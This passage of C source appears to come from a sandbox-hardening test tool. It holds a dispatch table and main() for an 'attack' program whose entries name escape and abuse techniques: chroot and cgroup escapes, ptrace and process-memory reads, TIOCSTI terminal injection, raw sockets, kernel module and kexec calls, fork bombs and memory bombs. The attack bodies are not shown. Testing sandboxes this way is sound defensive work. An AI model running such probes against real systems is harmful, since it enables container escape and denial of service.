    {"bind", a_bind, 2, "SRC DST"},
    {"umount", a_umount, 1, "PATH"},
    {"pivot_root", a_pivot_root, 0, ""},
    {"fsopen", a_fsopen, 0, ""},
    {"open_tree", a_open_tree, 1, "DST"},
    {"mount_setattr", a_mount_setattr, 1, "PATH"},
    {"unshare", a_unshare, 1, "NS..."},
    {"clone_ns", a_clone_ns, 1, "NS"},
    {"clone3", a_clone3, 0, ""},
    {"setns", a_setns, 1, "NSFILE"},
    {"chroot_escape", a_chroot_escape, 0, ""},
    {"compat_abi", a_compat_abi, 1, "i386|x32"},
    {"compat_route", a_compat_route, 1, "i386-socketcall|x32-ioctl"},
    {"personality", a_personality, 0, ""},
    {"fchdir_escape", a_fchdir_escape, 2, "FD MARKER"},
    {"reopen_fd", a_reopen_fd, 2, "FD r|w [MARKER]"},
    {"deep_tree", a_deep_tree, 2, "DIR LEVELS"},
    {"ptrace_child", a_ptrace_child, 0, ""},
    {"ptrace_pid", a_ptrace_pid, 1, "PID"},
    {"vm_read", a_vm_read, 1, "PID"},
    {"kill", a_kill, 1, "PID"},
    {"kill_all", a_kill_all, 0, ""},
    {"proc_exe_write", a_proc_exe_write, 1, "PID|self"},
    {"env_scan", a_env_scan, 1, "NAME"},
    {"proc_fds", a_proc_fds, 0, ""},
    {"fds", a_fds, 0, ""},
    {"tiocsti", a_tiocsti, 0, "[TEXT]"},
    {"ioctl_filter", a_ioctl_filter, 1, "TIOCSTI|TIOCLINUX"},
    {"socket", a_socket, 1, "raw|raw6|packet|netlink|netlink_audit|vsock|alg|key|tipc|bluetooth"},
    {"connect_tcp", a_connect_tcp, 2, "ADDR PORT"},
    {"udp_send", a_udp_send, 2, "ADDR PORT"},
    {"connect_unix", a_connect_unix, 1, "PATH|@ABSTRACT"},
    {"sendto_unix", a_sendto_unix, 1, "PATH"},
    {"inotify", a_inotify, 2, "DIR SECONDS"},
    {"bpf", a_bpf, 0, ""},
    {"perf", a_perf, 0, ""},
    {"keyctl", a_keyctl, 0, ""},
    {"userfaultfd", a_userfaultfd, 0, ""},
    {"io_uring", a_io_uring, 0, ""},
    {"kexec", a_kexec, 0, ""},
    {"module", a_module, 0, ""},
    {"open_by_handle", a_open_by_handle, 0, ""},
    {"setids", a_setids, 0, ""},
    {"raise_rlimit", a_raise_rlimit, 0, ""},
    {"capcheck", a_capcheck, 1,
     "reboot|swapon|iopl|ioperm|settime|sethostname|setdomainname|nice|acct|quotactl|syslog"},
    {"cgroup_escape", a_cgroup_escape, 0, ""},
    {"overlay_dirs", a_overlay_dirs, 0, ""},
    {"rw_mounts", a_rw_mounts, 0, "[WORKSPACE]"},
    {"forkbomb", a_forkbomb, 1, "CAP"},
    {"forkbomb_real", a_forkbomb_real, 0, ""},
    {"membomb", a_membomb, 1, "MIB"},
    {"spin", a_spin, 1, "CPU-SECONDS"},
    {"mem_children", a_mem_children, 2, "N MIB"},
    {"memfd", a_memfd, 1, "MIB"},
    {"cpu_children", a_cpu_children, 2, "N CPU-SECONDS"},
    {"run", a_run, 1, "PROGRAM [ARG...]"},
};

int
main(int argc, char **argv)
{
  setvbuf(stdout, NULL, _IOLBF, 0);
  /* A peer that hangs up after an attack connected must not hide the success.  */
  signal(SIGPIPE, SIG_IGN);
  if (argc < 2)
    {
      fprintf(stderr, "usage: attack NAME [ARG...]\n");
      for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++)
        fprintf(stderr, "  %s %s\n", attacks[i].name, attacks[i].usage);
      return OK_USAGE;
    }
  for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++)
    if (!strcmp(attacks[i].name, argv[1]))
      {
        if (argc - 2 < attacks[i].nargs)
          {
            fprintf(stderr, "usage: attack %s %s\n", attacks[i].name, attacks[i].usage);
            return OK_USAGE;
          }
        attack_name = argv[1];
        /* Proof that the attack ran, for attacks the sandbox kills before they can report.  */
        printf("started [%s]\n", attack_name);
        int r = attacks[i].fn(argc - 2, argv + 2);
        if (r == OK_USAGE)
          fprintf(stderr, "usage: attack %s %s\n", attacks[i].name, attacks[i].usage);
        return r;
      }
  fprintf(stderr, "attack: unknown attack %s\n", argv[1]);
  return OK_USAGE;
}
